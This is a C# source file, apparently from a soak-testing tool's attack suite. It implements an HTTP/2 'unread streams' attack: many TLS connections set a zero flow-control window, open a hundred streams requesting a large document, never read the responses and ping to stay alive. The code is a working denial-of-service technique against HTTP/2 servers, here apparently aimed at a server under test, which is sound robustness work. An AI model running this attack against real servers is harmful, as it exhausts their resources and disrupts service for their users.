// HTTP/2 with a window of nothing: a hundred answers a connection that can never be sent.
using System.Buffers.Binary;
using System.Net.Security;
using System.Text;

namespace Estat.Soak.Attacks;

/// <summary>Connections that ask for a large document a hundred times and take none of it.</summary>
/// <param name="connections">How many at once.</param>
/// <param name="between">Milliseconds between two beginnings: many more would be an attack by handshakes.</param>
/// <param name="path">The document.</param>
internal sealed class UnreadStreams(int connections, int between = 50, string path = "/openapi.json") : IAttack
{
    private const int Streams = 100;
    private const byte Settings = 4;
    private const byte Headers = 1;
    private const byte Ping = 6;
    private const byte Ack = 1;

    public string Name => "http2-unread";

    public Task RunAsync(int port, CancellationToken cancellationToken) =>
        Connection.KeepAsync(connections, TimeSpan.FromMilliseconds(between), ending => OneAsync(port, ending), cancellationToken);

    /// <summary>One such connection, until the server ends it.</summary>
    internal async Task OneAsync(int port, CancellationToken cancellationToken)
    {
        await using SslStream connection = await Connection.OpenTlsAsync(port, SslApplicationProtocol.Http2, cancellationToken);
        var sent = new MemoryStream();
        sent.Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
        Frame(sent, Settings, 0, 0, [0, 4, 0, 0, 0, 0]); // SETTINGS_INITIAL_WINDOW_SIZE=0
        Frame(sent, Settings, Ack, 0, []);
        // :method GET, :scheme https, :path, :authority
        byte[] fields = [0x82, 0x87, 0x04, (byte)path.Length, .. Encoding.ASCII.GetBytes(path), 0x01, 1, (byte)'x'];
        for (int i = 0; i < Streams; i++)
        {
            Frame(sent, Headers, 0x5, (2 * i) + 1, fields); // END_HEADERS, END_STREAM
        }

        await connection.WriteAsync(sent.ToArray(), cancellationToken);
        // What the server says is read: it must not be its socket that is full. A ping now and then shows that somebody is there.
        Task pinging = PingAsync(connection, cancellationToken);
        var said = new byte[4096];
        while (await connection.ReadAsync(said, cancellationToken) > 0)
        {
        }

        await pinging;
    }

    private static async Task PingAsync(SslStream connection, CancellationToken cancellationToken)
    {
        var ping = new MemoryStream();
        Frame(ping, Ping, 0, 0, new byte[8]);
        try
        {
            while (true)
            {
                await Task.Delay(TimeSpan.FromSeconds(2), cancellationToken);
                await connection.WriteAsync(ping.ToArray(), cancellationToken);
            }
        }
        catch (Exception error) when (error is IOException or ObjectDisposedException or OperationCanceledException)
        {
            // It has ended.
        }
    }

    private static void Frame(MemoryStream into, byte type, byte flags, int stream, byte[] payload)
    {
        Span<byte> head = stackalloc byte[9];
        BinaryPrimitives.WriteInt32BigEndian(head, payload.Length << 8);
        head[3] = type;
        head[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(head[5..], stream);
        into.Write(head);
        into.Write(payload);
    }
}
